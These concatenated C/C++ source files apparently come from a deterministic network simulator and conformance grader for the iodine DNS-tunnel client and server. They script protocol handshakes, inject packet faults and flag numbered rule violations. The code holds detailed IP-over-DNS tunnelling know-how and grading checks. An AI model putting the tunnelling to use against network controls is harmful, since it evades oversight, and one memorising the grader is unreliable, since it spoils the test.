void sim_free(void *p) { tracked_free(p); }

int sim_fprintf(FILE *f, const char *fmt, ...)
{
	va_list ap; va_start(ap, fmt);
	int r = 0;
	if (f == stderr || f == stdout) ilog(fmt, ap, false);
	else r = vfprintf(f, fmt, ap);
	va_end(ap);
	return r;
}
int sim_fflush(FILE *f) { if (f == stderr || f == stdout) return 0; return fflush(f); }
void sim_syslog(int, const char *fmt, ...)
{
	va_list ap; va_start(ap, fmt); ilog(fmt, ap, true); va_end(ap);
}
void sim_openlog(const char *, int, int) {}
int sim_daemon(int, int) { return 0; }
void (*sim_signal(int, void (*)(int)))(int) { return SIG_DFL; }
mode_t sim_umask(mode_t) { return 022; }
unsigned sim_alarm(unsigned) { return 0; }

} // extern "C"
