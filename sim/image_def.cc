// image_def.cc -- compiled once per program image with
//   -DIMG=<name> -DIMG_ENTRY=<entry symbol> [-DIMG_NOENTRY]
// Exposes the image's data/bss bounds (sections renamed by objcopy, so the
// linker provides __start_/__stop_ symbols) for snapshot/restore state reset.
#include "simnet.h"

#define CAT2(a, b) a##b
#define CAT(a, b) CAT2(a, b)

extern "C" {
extern char CAT(__start_, CAT(IMG, data))[], CAT(__stop_, CAT(IMG, data))[];
extern char CAT(__start_, CAT(IMG, bss))[], CAT(__stop_, CAT(IMG, bss))[];
#ifndef IMG_NOENTRY
int IMG_ENTRY(int, char **);
#endif
}

namespace sim {
ImageRegion *CAT(image_, IMG)()
{
	static ImageRegion *r = make_image(CAT(__start_, CAT(IMG, data)), CAT(__stop_, CAT(IMG, data)),
					   CAT(__start_, CAT(IMG, bss)), CAT(__stop_, CAT(IMG, bss)));
	return r;
}
#ifndef IMG_NOENTRY
int (*CAT(entry_, IMG)())(int, char **) { return IMG_ENTRY; }
#endif
}
