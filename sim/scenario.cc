// scenario.cc -- see scenario.h
#include "scenario.h"
#include <cstdarg>
#include <cstdio>
#include <cstring>
#include <arpa/inet.h>

namespace sim {
ImageRegion *image_srv(); int (*entry_srv())(int, char **);
ImageRegion *image_cli0(); int (*entry_cli0())(int, char **);
ImageRegion *image_cli1(); int (*entry_cli1())(int, char **);
ImageRegion *image_cli2(); int (*entry_cli2())(int, char **);
}

namespace scn {
using namespace sim;

static const uint8_t SRV6_IP[16] = {0x20, 0x01, 0x0d, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1};
const Addr SRV4 = Addr::v4(192, 0, 2, 1, 53);
const Addr SRV6 = Addr::v6(SRV6_IP, 53);

std::string fmt(const char *f, ...)
{
	char b[2048];
	va_list ap; va_start(ap, f); vsnprintf(b, sizeof b, f, ap); va_end(ap);
	return b;
}

static const char *DOWNENC_NAME[] = {"", "Base32", "Base64", "Base64u", "Base128", "Raw"};

std::string Config::describe() const
{
	return fmt("type=%s downenc=%s frag=%d M=%d lazy=%d raw=%d clients=%d mask=/%d check_ip=%d domain=%s%s%s",
		   refproto::qtype_name(qtype), downenc ? DOWNENC_NAME[downenc] : "auto", frag, maxlen, lazy, (int)raw_mode,
		   nclients, netmask, (int)check_ip, domain.c_str(), srv_domain.empty() ? "" : " srvdomain=", srv_domain.c_str());
}

Session::Session(const Config &cfg) : c(cfg) { W.reset(); }

void Session::start_server()
{
	std::vector<std::string> a = {"iodined", "-f"};
	if (!c.check_ip) a.push_back("-c");
	if (!c.pass_env_server) { a.push_back("-P"); a.push_back(c.password); }
	if (c.forward_port) { a.push_back("-b"); a.push_back(std::to_string(c.forward_port)); }
	if (c.mtu) { a.push_back("-m"); a.push_back(std::to_string(c.mtu)); }
	a.push_back(c.server_ip + "/" + std::to_string(c.netmask));
	a.push_back(c.srv_domain.empty() ? c.domain : c.srv_domain);
	Addr h4 = SRV4, h6 = SRV6;
	srv = W.add_instance("iodined", entry_srv(), image_srv(), a, h4, h6, c.srv_seed);
	if (c.pass_env_server) srv->env["IODINED_PASS"] = c.password;
	else if (!c.decoy_env_server.empty()) srv->env["IODINED_PASS"] = c.decoy_env_server;
}

Addr Session::client_addr(int k) const
{
	if (c.client_v6) {
		uint8_t ip[16]; memcpy(ip, SRV6_IP, 16); ip[15] = (uint8_t)(0x50 + k);
		return Addr::v6(ip, 0);
	}
	return Addr::v4(192, 0, 2, (uint8_t)(50 + k), 0);
}

void Session::start_client(int k)
{
	std::vector<std::string> a = {"iodine", "-f"};
	if (!c.raw_mode) a.push_back("-r");
	if (!c.pass_env_client) { a.push_back("-P"); a.push_back(c.password); }
	if (c.qtype) { a.push_back("-T"); a.push_back(refproto::qtype_name(c.qtype)); }
	if (c.downenc) { a.push_back("-O"); a.push_back(DOWNENC_NAME[c.downenc]); }
	if (c.frag >= 0) { a.push_back("-m"); a.push_back(std::to_string(c.frag)); }
	if (c.maxlen) { a.push_back("-M"); a.push_back(std::to_string(c.maxlen)); }
	a.push_back("-L"); a.push_back(std::to_string(c.lazy));
	if (c.interval) { a.push_back("-I"); a.push_back(std::to_string(c.interval)); }
	Addr ns = c.nameserver.family ? c.nameserver : (c.client_v6 ? SRV6 : SRV4);
	char t[64];
	if (ns.family == AF_INET6) inet_ntop(AF_INET6, ns.ip, t, sizeof t);
	else snprintf(t, sizeof t, "%u.%u.%u.%u", ns.ip[0], ns.ip[1], ns.ip[2], ns.ip[3]);
	a.push_back(t);
	a.push_back(c.domain);
	Addr me = client_addr(k);
	Addr h4 = c.client_v6 ? Addr::v4(192, 0, 2, (uint8_t)(50 + k), 0) : me;
	Addr h6 = c.client_v6 ? me : Addr();
	int (*entry)(int, char **) = k == 0 ? entry_cli0() : (k == 1 ? entry_cli1() : entry_cli2());
	ImageRegion *im = k == 0 ? image_cli0() : (k == 1 ? image_cli1() : image_cli2());
	cli[k] = W.add_instance(fmt("iodine%d", k), entry, im, a, h4, h6, c.cli_seed + 1000 * k);
	if (c.pass_env_client) cli[k]->env["IODINE_PASS"] = c.password;
	else if (!c.decoy_env_client.empty()) cli[k]->env["IODINE_PASS"] = c.decoy_env_client;
}

bool Session::client_up(int k) const
{
	return cli[k] && cli[k]->state != ST_EXITED && cli[k]->n_select_with_tun > 0;
}

bool Session::wait_handshake(int k, int max_seconds)
{
	uint64_t end = W.now + (uint64_t)max_seconds * 1000000ull;
	while (W.now < end && !W.livelock) {
		if (client_up(k)) return true;
		if (cli[k]->state == ST_EXITED) return false;
		W.run_until(std::min(end, W.now + 250000));
	}
	return client_up(k);
}

bool Session::wait_all(int max_seconds)
{
	bool ok = true;
	for (int k = 0; k < c.nclients; k++) ok = wait_handshake(k, max_seconds) && ok;
	return ok;
}

Bytes Session::server_tun_ip() const
{
	struct in_addr a; inet_pton(AF_INET, c.server_ip.c_str(), &a);
	Bytes b(4); memcpy(b.data(), &a, 4);
	return b;
}

Bytes Session::client_tun_ip(int slot) const
{
	Bytes s = server_tun_ip();
	uint32_t my = ((uint32_t)s[0] << 24) | (s[1] << 16) | (s[2] << 8) | s[3];
	uint32_t mask = c.netmask == 0 ? 0 : 0xFFFFFFFFu << (32 - c.netmask);
	uint32_t start = my & mask;
	uint32_t myoff = my - start;
	uint32_t off = 0; int n = -1;
	while (n < slot) { off++; if (off == myoff) continue; n++; }
	uint32_t ip = start + off;
	return Bytes{(uint8_t)(ip >> 24), (uint8_t)(ip >> 16), (uint8_t)(ip >> 8), (uint8_t)ip};
}

Bytes tun_packet(const Bytes &dst, const Bytes &src, const Bytes &body, uint16_t ident)
{
	Bytes p = {0, 0, 8, 0};
	size_t tot = 20 + body.size();
	uint8_t h[20] = {0x45, 0, (uint8_t)(tot >> 8), (uint8_t)tot, (uint8_t)(ident >> 8), (uint8_t)ident, 0, 0, 64, 17, 0, 0,
			 src[0], src[1], src[2], src[3], dst[0], dst[1], dst[2], dst[3]};
	p.insert(p.end(), h, h + 20);
	p.insert(p.end(), body.begin(), body.end());
	return p;
}

Bytes gen_packet(hz::Tape &t, const Bytes &dst, const Bytes &src, uint16_t ident, size_t maxbody)
{
	size_t n;
	switch (t.pick({4, 3, 2, 1})) {
	case 0: n = t.below(80); break;
	case 1: n = t.below(600); break;
	case 2: n = t.below((uint32_t)maxbody + 1); break;
	default: n = maxbody > 32 ? maxbody - t.below(32) : maxbody; break;
	}
	if (n > maxbody) n = maxbody;
	return tun_packet(dst, src, t.bytes_of(n), ident);
}

// ------------------------------------------------------------------ FaultNet
void FaultNet::install()
{
	W.router = [this](const Datagram &dg) {
		n_total++;
		int decision = 0;
		if (active && tape && (!filter || filter(dg))) {
			uint32_t v = tape->below(1000);
			if (v < p_drop) decision = 1;
			else if (v < p_drop + p_dup) decision = n_total > 4000 ? 0 : 2;   // duplication storms are cut off (cost, not semantics: plain delivery is always allowed)
			else if (v < p_drop + p_dup + p_delay) decision = 3;
		}
		if (on_decision) on_decision(dg, decision);
		switch (decision) {
		case 1: n_drop++; break;
		case 2: {
			n_dup++;
			int k = 1 + (int)tape->below(3);
			W.deliver_after(dg, W.latency_us);
			for (int i = 0; i < k; i++) W.deliver_after(dg, W.latency_us + tape->below((uint32_t)max_delay_us));
			break;
		}
		case 3: n_delay++; W.deliver_after(dg, W.latency_us + 1 + tape->below((uint32_t)max_delay_us)); break;
		default: W.deliver_after(dg, W.latency_us); break;
		}
	};
}

// ------------------------------------------------------------------ ScriptClient
void ScriptClient::attach()
{
	if (!server.family) server = addr.family == AF_INET6 ? SRV6 : SRV4;
	W.actors[addr] = [this](const Datagram &dg) {
		Rx rx; rx.t = W.now; rx.dg = dg;
		if (dg.data.size() >= 4 && dg.data[0] == 0x10 && dg.data[1] == 0xd1 && dg.data[2] == 0x9e) rx.is_raw = true;
		else refproto::decode_answer(dg.data, rx.ans);
		inbox.push_back(rx);
	};
}

uint16_t ScriptClient::send_name(const std::string &name, int id, int qtype_override)
{
	uint16_t qid = id >= 0 ? (uint16_t)id : next_id++;
	if (id < 0 && qid == 0) qid = next_id++;
	Datagram dg; dg.src = addr; dg.dst = server;
	uint16_t qt = qtype_override >= 0 ? (uint16_t)qtype_override : refproto::qtype_of(qtype_k);
	dg.data = refproto::make_query(qid, name, qt, edns0);
	sent.push_back(SentQ{W.now, qid, name, qt, addr, dg.data});
	W.send(dg);
	return qid;
}

void ScriptClient::send_raw(const Bytes &frame)
{
	Datagram dg; dg.src = addr; dg.dst = server; dg.data = frame;
	W.send(dg);
}

const Rx *ScriptClient::answer_for(uint16_t id, size_t from) const
{
	for (size_t i = from; i < inbox.size(); i++)
		if (!inbox[i].is_raw && inbox[i].ans.id == id && inbox[i].dg.data.size() >= 12) return &inbox[i];
	return nullptr;
}

const Rx *ScriptClient::wait_answer(uint16_t id, uint64_t max_us)
{
	size_t from = 0;
	uint64_t end = W.now + max_us;
	for (;;) {
		const Rx *r = answer_for(id, from);
		if (r) return r;
		if (W.now >= end) return nullptr;
		W.run_until(std::min(end, W.now + 2000));
	}
}

bool ScriptClient::do_version()
{
	uint16_t id = send_name(refproto::name_version(refproto::PROTOCOL_VERSION, cmc++, domain));
	const Rx *r = wait_answer(id);
	if (!r || !r->ans.ok || r->ans.payload.size() < 9 || memcmp(r->ans.payload.data(), "VACK", 4)) return false;
	const Bytes &p = r->ans.payload;
	challenge = ((uint32_t)p[4] << 24) | ((uint32_t)p[5] << 16) | ((uint32_t)p[6] << 8) | p[7];
	have_challenge = true;
	userid = p[8];
	return true;
}

bool ScriptClient::do_login()
{
	uint8_t h[16];
	ref::login_hash(password, challenge, h);
	uint16_t id = send_name(refproto::name_login(userid, h, cmc++, domain));
	const Rx *r = wait_answer(id);
	if (!r || !r->ans.ok) return false;
	std::string s(r->ans.payload.begin(), r->ans.payload.end());
	if (s.compare(0, 4, "LNAK") == 0 || s.compare(0, 5, "BADIP") == 0) return false;
	size_t a = s.find('-'); if (a == std::string::npos) return false;
	size_t b = s.find('-', a + 1); if (b == std::string::npos) return false;
	server_ip_text = s.substr(0, a); tun_ip_text = s.substr(a + 1, b - a - 1);
	return true;
}

bool ScriptClient::do_option(char opt)
{
	uint16_t id = send_name(refproto::name_option(userid, opt, cmc++, domain));
	const Rx *r = wait_answer(id);
	if (!r || !r->ans.ok) return false;
	std::string s(r->ans.payload.begin(), r->ans.payload.end());
	return s.compare(0, 3, "BAD") != 0;
}

bool ScriptClient::do_switch_codec(int bits)
{
	uint16_t id = send_name(refproto::name_switch_codec(userid, bits, cmc++, domain));
	const Rx *r = wait_answer(id);
	if (!r || !r->ans.ok) return false;
	std::string s(r->ans.payload.begin(), r->ans.payload.end());
	if (s.compare(0, 3, "BAD") == 0) return false;
	up_codec = bits == 5 ? 0 : (bits == 6 ? 1 : (bits == 26 ? 2 : 3));
	return true;
}

bool ScriptClient::do_set_fragsize(int f)
{
	uint16_t id = send_name(refproto::name_set_fragsize(userid, f, cmc++, domain));
	const Rx *r = wait_answer(id);
	if (!r || !r->ans.ok || r->ans.payload.size() != 2) return false;
	return ((r->ans.payload[0] << 8) | r->ans.payload[1]) == f;
}

bool ScriptClient::handshake(bool lazy, int frag, char downenc, int upbits)
{
	if (!do_version()) return false;
	if (!do_login()) return false;
	if (upbits && !do_switch_codec(upbits)) return false;
	if (downenc && !do_option(downenc)) return false;
	if (lazy && !do_option('l')) return false;
	if (frag > 0 && !do_set_fragsize(frag)) return false;
	return true;
}

uint16_t ScriptClient::send_ping(int id)
{
	return send_name(refproto::name_ping(userid, dn_seq, dn_frag, cmc++, domain), id);
}

void ScriptClient::absorb(const Rx &rx)
{
	if (rx.is_raw || !rx.ans.ok) return;
	refproto::DownHdr h;
	if (!refproto::down_header(rx.ans.payload, h)) return;
	if (rx.ans.payload.size() <= 2) return;
	if (h.dn_seq != dn_seq) { dn_seq = h.dn_seq; dn_frag = h.dn_frag; dn_buf.clear(); }
	else if (!(dn_frag == 0 && h.dn_frag == 0 && dn_buf.empty())) {
		if (h.dn_frag <= dn_frag) return;         // duplicate
		if (h.dn_frag > dn_frag + 1) return;      // gap
	}
	dn_frag = h.dn_frag;
	dn_buf.insert(dn_buf.end(), rx.ans.payload.begin() + 2, rx.ans.payload.end());
	if (h.last) {
		Bytes out;
		if (refproto::zuncompress(dn_buf, out)) received.push_back(out);
		dn_buf.clear();
	}
}

int ScriptClient::send_packet(const Bytes &tun_pkt, size_t chunk_bytes)
{
	static const char cm[] = "abcdefghijklmnopqrstuvwxyz0123456789";
	Bytes z = refproto::zcompress(tun_pkt);
	up_seq = (up_seq + 1) & 7;
	int nq = 0;
	size_t off = 0; int frag = 0;
	while (off < z.size() && frag < 16) {
		size_t n = std::min(chunk_bytes, z.size() - off);
		Bytes chunk(z.begin() + off, z.begin() + off + n);
		bool last = off + n >= z.size();
		size_t before = inbox.size();
		send_name(refproto::name_data(userid, up_seq, frag, dn_seq, dn_frag, last, cm[data_cmc], up_codec, chunk, domain));
		data_cmc = (data_cmc + 1) % 36;
		nq++;
		W.run_for(30000);
		for (size_t i = before; i < inbox.size(); i++) absorb(inbox[i]);
		off += n; frag++;
	}
	return nq;
}

} // namespace scn
