// monitors.cc -- see monitors.h
#include "monitors.h"
#include <cstring>

namespace mon {
using namespace sim;
using scn::fmt;

static bool is_raw_frame(const Bytes &d) { return d.size() >= 3 && d[0] == 0x10 && d[1] == 0xd1 && d[2] == 0x9e; }

int WireMonitor::user_of_query_name(const std::string &data) const
{
	if (data.size() < 2) return -1;
	char c = data[0];
	std::string rest = data.substr(1);
	if (!rest.empty() && rest.back() == '.') rest.pop_back();
	if (c == 'p' || c == 'P') {
		Bytes b = ref::codec_decode(0, rest, true);
		if (b.size() < 4) return -1;
		return (int)(int8_t)b[0];
	}
	int code = -1;
	if (c >= '0' && c <= '9') code = c - '0';
	else if (c >= 'a' && c <= 'f') code = c - 'a' + 10;
	else if (c >= 'A' && c <= 'F') code = c - 'A' + 10;
	if (code >= 0 && data.size() >= 6) return code;
	return -1;
}

void WireMonitor::attach(World &w)
{
	auto prev_send = w.on_send;
	w.on_send = [this, prev_send](const Datagram &dg) { if (prev_send) prev_send(dg); on_send(dg); };
	auto prev_recv = w.on_recv;
	w.on_recv = [this, prev_recv](const Datagram &dg, Instance *i) { if (prev_recv) prev_recv(dg, i); on_deliver(dg, i); };
	auto prev_block = w.on_block;
	w.on_block = [this, prev_block](Instance *i) { if (prev_block) prev_block(i); if (i->idx == srv_idx) after_server_step(); };
}

void WireMonitor::on_deliver(const Datagram &dg, Instance *to)
{
	if (to->idx != srv_idx) return;
	if (is_raw_frame(dg.data)) {
		if (dg.data.size() >= 4) { int u = dg.data[3] & 15; for (auto &c : credits) if (c.pingdata && c.user == u && !c.answered) c.forgotten = true; }
		return;
	}
	refdns::Msg m;
	if (!refdns::parse(dg.data, m).empty()) return;       // malformed queries earn no credit
	if (m.qr() || m.q.size() != 1) return;
	Credit c;
	c.src = dg.src; c.id = m.id; c.name = m.q[0].name.dotted(); c.qtype = m.q[0].type; c.t = W.now;
	int d = ref::match_datalen(c.name, domain);
	if (d > 0) {
		std::string data = c.name.substr(0, d);
		c.user = user_of_query_name(data);
		c.pingdata = c.user >= 0;
	}
	credits.push_back(c);
	if (credits.size() > 4000) credits.erase(credits.begin(), credits.begin() + 2000);
}

void WireMonitor::on_send(const Datagram &dg)
{
	const Bytes &d = dg.data;
	if (dg.from_inst < 0) return;
	bool from_srv = dg.from_inst == srv_idx;
	bool from_cli = client_idx.count(dg.from_inst) != 0;
	if (!from_srv && !from_cli) return;
	if (is_raw_frame(d)) { n_raw++; return; }
	refdns::Msg m;
	std::string e = refdns::parse(d, m);
	if (from_cli) {
		n_cli_dns++;
		if (!e.empty()) { v->fail("C10", "C10:client-illformed", "client emitted an ill-formed DNS message: " + e + " bytes=" + sim::hex(d, 120)); return; }
		if (m.qr() || !m.rd() || m.q.size() != 1 || m.an || m.ns || m.ar > 1 || m.opcode() != 0)
			v->fail("C10", "C10:client-header", fmt("client query header unexpected: flags=%04x qd=%u an=%u ns=%u ar=%u", m.flags, m.qd, m.an, m.ns, m.ar));
		if (m.q.size() == 1 && m.q[0].klass != 1) v->fail("C10", "C10:client-class", "client question class is not IN");
		for (auto &r : m.additional)
			if (r.type != refdns::T_OPT || !r.owner.labels.empty() || r.rdlen != 0)
				v->fail("C10", "C10:client-opt", "additional record of a client query is not a plain OPT record");
		if (m.q.size() == 1) {
			std::string n = m.q[0].name.dotted();
			if (n.size() >= 200) n_long_q++;
			// C08 lists the builders it speaks about: data chunks, fragment-size probes, pings, version / login / set-fragment-size
			// messages.  The fixed codec test patterns (z..., y...) and the short s/o/i requests are not among them.
			char k0 = n.empty() ? 0 : (char)tolower((unsigned char)n[0]);
			bool listed = k0 && strchr("rpvln0123456789abcdef", k0);
			if (listed && (int)n.size() > client_maxlen) v->fail("C08", "C08:sim-limit", fmt("client emitted a %zu character name with -M %d: %.80s", n.size(), client_maxlen, n.c_str()));
			if (ref::match_datalen(n, domain) < 0) v->fail("C08", "C08:sim-domain", "client query name not under the tunnel domain: " + n.substr(0, 100));
		}
		return;
	}
	// server
	n_srv_dns++;
	if (!e.empty()) { v->fail("C10", "C10:server-illformed", "server emitted an ill-formed DNS message: " + e + " bytes=" + sim::hex(d, 160)); return; }
	if (!m.qr()) return;   // a forwarded query towards the local resolver (C20)
	if (forwarding && m.q.empty()) return;   // with -b: a reply relayed unchanged from the local resolver, which may have no question section (C20 judges those)
	if (m.q.size() != 1) { v->fail("C10", "C10:server-noquestion", "server answer without exactly one question"); return; }
	std::string qn = m.q[0].name.dotted();
	bool tunnel_name = ref::match_datalen(qn, domain) >= 0;
	// find the query this answers
	Credit *c = nullptr, *any = nullptr;
	for (auto it = credits.rbegin(); it != credits.rend(); ++it) {
		if (it->src == dg.dst && it->id == m.id) {
			if (!any) any = &*it;
			if (!it->answered && it->name == qn && it->qtype == m.q[0].type) { c = &*it; break; }
		}
	}
	if (forwarding && !tunnel_name) return;
	if (!c && !any) {
		// nobody at this address asked with this id: if a query with exactly this question is waiting there under another id,
		// the answer does not carry the id of the query it answers
		for (auto it = credits.rbegin(); it != credits.rend(); ++it)
			if (it->src == dg.dst && !it->answered && it->name == qn && it->qtype == m.q[0].type && it->id != m.id) {
				v->fail("C10", "C10:id-echo", fmt("answer to %s for '%.50s' carries id %u, the waiting query with that question has id %u", dg.dst.str().c_str(), qn.c_str(), m.id, it->id));
				break;
			}
	}
	if (!c) {
		if (any && !(any->name == qn && any->qtype == m.q[0].type))
			v->fail("C10", "C10:echo", fmt("answer id %u to %s carries question '%.60s' type %u but the query was '%.60s' type %u", m.id, dg.dst.str().c_str(), qn.c_str(), m.q[0].type, any->name.c_str(), any->qtype));
		else if (judge_c14)
			v->fail("C14", any ? "C14:surplus" : "C14:unsolicited", fmt("server sent an answer (id %u, '%.60s', type %u) to %s for which no unanswered query exists", m.id, qn.c_str(), m.q[0].type, dg.dst.str().c_str()));
		return;
	}
	c->answered = true;
	if (m.q[0].klass != 1) v->fail("C10", "C10:class", "answer question class is not IN");
	if (m.an >= 2) n_answers_multi++;
	for (auto &r : m.answers) {
		if (r.owner.dotted() != qn) v->fail("C10", "C10:owner", "answer owner name '" + r.owner.dotted().substr(0, 60) + "' does not resolve to the question name");
		if (r.type == refdns::T_TXT && r.txt.size() >= 2) n_txt_multi++;
		// "each answer carries the ... type of the query it answers": the record itself, not only the echoed question (an A question
		// under the tunnel domain is answered with a CNAME record, as the protocol document says)
		if (tunnel_name && r.type != m.q[0].type && !(m.q[0].type == refdns::T_A && r.type == refdns::T_CNAME))
			v->fail("C10", "C10:record-type", fmt("answer record of type %u in the answer to a type %u query for '%.50s'", r.type, m.q[0].type, qn.c_str()));
	}
	if (m.q[0].type == refdns::T_NS && tunnel_name) {
		n_aux++;
		if (m.answers.size() != 1 || m.answers[0].type != refdns::T_NS) v->fail("C10", "C10:ns", "NS query not answered with one NS record");
		else {
			std::string t = m.answers[0].target.dotted();
			int dl = ref::match_datalen(qn, domain);
			std::string want = "ns." + qn.substr(dl);
			if (refdns::lower(t) != refdns::lower(want)) v->fail("C10", "C10:ns-name", "NS answer names '" + t + "', expected '" + want + "'");
			for (auto &a : m.additional) if (a.type == refdns::T_A && refdns::lower(a.owner.dotted()) != refdns::lower(want)) v->fail("C10", "C10:ns-glue", "additional A record is not owned by the NS name");
		}
	}
	if (m.q[0].type == refdns::T_A && tunnel_name) {
		int dl2 = ref::match_datalen(qn, domain);
		std::string head = refdns::lower(qn.substr(0, dl2));
		if (head == "ns." || head == "www.") {
			n_aux++;
			if (m.answers.size() != 1 || m.answers[0].type != refdns::T_A || m.answers[0].rdata.size() != 4)
				v->fail("C10", "C10:a-record", "A query for " + head + "<domain> not answered with exactly one 4-byte address record");
			else if (head == "www." && !(m.answers[0].rdata[0] == 127 && m.answers[0].rdata[1] == 0 && m.answers[0].rdata[2] == 0 && m.answers[0].rdata[3] == 1))
				v->fail("C10", "C10:www-address", "A query for www.<domain> not answered with 127.0.0.1");
		}
	}
	// C15 + C14 bookkeeping need the decoded payload
	refproto::Answer a;
	bool dec = refproto::decode_answer(d, a);
	int dl = ref::match_datalen(c->name, domain);
	std::string data = dl > 0 ? c->name.substr(0, dl) : std::string();
	char cmd = data.empty() ? 0 : data[0];
	if (dec && a.ok) {
		if ((cmd == 'v' || cmd == 'V') && a.payload.size() >= 9 && !memcmp(a.payload.data(), "VACK", 4)) {
			int u = a.payload[8];
			fragsize.erase(u); lazy.erase(u);
		}
		if ((cmd == 'n' || cmd == 'N') && a.payload.size() == 2) {
			std::string rest = data.substr(1); if (!rest.empty() && rest.back() == '.') rest.pop_back();
			Bytes b = ref::codec_decode(0, rest, true);
			if (b.size() >= 3 && b[1] == a.payload[0] && b[2] == a.payload[1]) fragsize[(int)(int8_t)b[0]] = (b[1] << 8) | b[2];
		}
		if ((cmd == 'o' || cmd == 'O') && data.size() >= 3) {
			int u = ref::b32_value((unsigned char)data[1]);
			std::string s(a.payload.begin(), a.payload.end());
			if (s == "Lazy") lazy[u] = true;
			if (s == "Immediate") lazy[u] = false;
		}
		if (c->pingdata && a.payload.size() >= 2 && !(a.payload.size() == 5 && !memcmp(a.payload.data(), "BADIP", 5))) {
			size_t dlen = a.payload.size() - 2;
			int F = fragsize.count(c->user) ? fragsize[c->user] : 100;
			n_data_answers++;
			if (dlen > max_frag_seen) max_frag_seen = dlen;
			if (dlen > (size_t)F || dlen > 4094)
				v->fail("C15", "C15:oversize", fmt("data answer for user %d carries %zu payload bytes after the 2-byte header, negotiated fragment size is %d", c->user, dlen, F));
		}
	}
}

void WireMonitor::after_server_step()
{
	if (!judge_c14) return;
	// lazy-mode bound: at most two distinct ping/data questions of a session are held back.  A question is
	// held when the most recently received query datagram carrying it is still unanswered (an earlier copy that
	// was superseded by a later duplicate never gets an answer of its own and does not count).
	std::map<int, std::map<std::pair<std::string, uint16_t>, bool>> latest_unanswered;
	for (auto &c : credits)
		if (c.pingdata && c.id != 0 && W.now - c.t < 50ull * 1000000) latest_unanswered[c.user][std::make_pair(c.name, c.qtype)] = !c.answered && !c.forgotten;
	for (auto &kv : latest_unanswered) {
		int n = 0;
		for (auto &q : kv.second) if (q.second) n++;
		if (n > max_held) max_held = n;
		if (n > 2)
			v->fail("C14", "C14:held>2", fmt("server holds back %d distinct ping/data queries of user %d", n, kv.first));
	}
}

// ------------------------------------------------------------------ TunMonitor
void TunMonitor::attach(World &w)
{
	auto pr = w.on_tun_read;
	w.on_tun_read = [this, pr](Instance *i, const Bytes &b) { if (pr) pr(i, b); ev.push_back(TunEv{W.now, i->idx, false, b}); };
	auto pw = w.on_tun_write;
	w.on_tun_write = [this, pw](Instance *i, const Bytes &b) { if (pw) pw(i, b); ev.push_back(TunEv{W.now, i->idx, true, b}); };
}

bool TunMonitor::integrity(std::string &why) const
{
	for (size_t k = 0; k < ev.size(); k++) {
		if (!ev[k].write) continue;
		bool found = false;
		for (size_t j = 0; j < k && !found; j++)
			if (!ev[j].write && ev[j].inst != ev[k].inst && ev[j].data == ev[k].data) found = true;
		if (!found) {
			why = fmt("instance %d wrote a %zu-byte packet to its tun device at t=%.3fs that no peer had read from its tun device before: %s",
				  ev[k].inst, ev[k].data.size(), ev[k].t / 1e6, sim::hex(ev[k].data, 48).c_str());
			return false;
		}
	}
	return true;
}

std::vector<Bytes> TunMonitor::reads_of(int inst) const
{
	std::vector<Bytes> r;
	for (auto &e : ev) if (!e.write && e.inst == inst) r.push_back(e.data);
	return r;
}
std::vector<TunEv> TunMonitor::writes_of(int inst) const
{
	std::vector<TunEv> r;
	for (auto &e : ev) if (e.write && e.inst == inst) r.push_back(e);
	return r;
}

} // namespace mon
