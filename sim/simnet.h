// simnet.h -- deterministic single-process OS + UDP network + tun simulator
// hosting the real iodine / iodined main() functions as coroutines.
// See DESIGN.md section 2.2.
#pragma once
#include <cstdint>
#include <cstring>
#include <deque>
#include <functional>
#include <map>
#include <queue>
#include <string>
#include <vector>
#include <ucontext.h>
#include <sys/select.h>
#include <sys/socket.h>
#include <netinet/in.h>

namespace sim {

typedef std::vector<uint8_t> Bytes;

struct Addr {
	int family = 0;          // AF_INET / AF_INET6 / 0 = unset
	uint8_t ip[16] = {0};    // v4 uses ip[0..3]
	uint16_t port = 0;       // host order
	static Addr v4(uint8_t a, uint8_t b, uint8_t c, uint8_t d, uint16_t port);
	static Addr v6(const uint8_t ip16[16], uint16_t port);
	static Addr from_sockaddr(const struct sockaddr *sa, socklen_t len);
	socklen_t to_sockaddr(struct sockaddr_storage *ss) const;
	bool same_ip(const Addr &o) const;
	bool operator==(const Addr &o) const { return same_ip(o) && port == o.port; }
	bool operator!=(const Addr &o) const { return !(*this == o); }
	bool operator<(const Addr &o) const;
	bool is_wild() const;
	std::string str() const;
};

struct Datagram {
	Addr src, dst;
	Bytes data;
	uint64_t serial = 0;     // unique per sendto()
	int from_inst = -1;      // instance index that sent it, -1 = actor/harness
};

enum InstState { ST_NEW, ST_RUNNABLE, ST_SELECT, ST_SLEEP, ST_EXITED };

struct Socket {
	int family = 0;
	bool bound = false;
	Addr local;
	std::deque<Datagram> rx;
};

struct FdEntry {
	int kind = 0;            // 1 = udp socket, 2 = tun
	Socket sock;
};

struct TunEvent {
	uint64_t t;
	Bytes data;
};

struct ImageRegion {
	char *data_start, *data_stop, *bss_start, *bss_stop;
	std::vector<char> snapshot;
	bool have_snapshot = false;
};

struct Instance {
	int idx = 0;
	std::string name;
	int (*entry)(int, char **) = nullptr;
	std::vector<std::string> args;
	ImageRegion *image = nullptr;
	Addr host4, host6;               // addresses this host owns (port ignored)
	uint32_t rand_seed = 1;

	// runtime
	InstState state = ST_NEW;
	int exit_code = 0;
	bool exited_by_return = false;
	uint64_t wake_at = 0;
	fd_set *sel_r = nullptr;
	int sel_nfds = 0;
	int sel_ret = 0;
	bool sel_has_tun = false;        // last select() watched the tun fd
	uint64_t n_select = 0;           // select() calls so far
	uint64_t n_select_with_tun = 0;
	std::map<int, FdEntry> fds;
	int next_fd = 0;
	int tun_fd = -1;
	std::deque<Bytes> tun_in;        // packets offered, not yet read
	std::vector<TunEvent> tun_reads; // accepted packets (with time)
	std::vector<TunEvent> tun_writes;
	std::vector<std::string> system_calls;
	uint32_t rand_state = 1;
	std::map<std::string, std::string> env;   // environment variables visible to the hosted program (getenv)
	std::deque<int> rand_forced;     // values the next rand() calls of this instance return (harness chooses e.g. the login challenge)
	std::string log;
	void *alloc_head = nullptr;
	uint16_t next_ephemeral = 40000;

	// coroutine
	ucontext_t ctx;
	char *stack = nullptr;
	size_t stack_size = 0;
	std::vector<char *> argv_store;
	std::vector<char *> argv;
};

struct Event {
	uint64_t t;
	uint64_t seq;
	std::function<void()> fn;
	bool operator<(const Event &o) const { return t != o.t ? t > o.t : seq > o.seq; }
};

typedef std::function<void(const Datagram &)> ActorFn;

struct World {
	uint64_t now = 0;                    // microseconds of virtual time
	uint64_t epoch = 1700000000;         // time() = epoch + now/1e6
	uint64_t seq = 0;
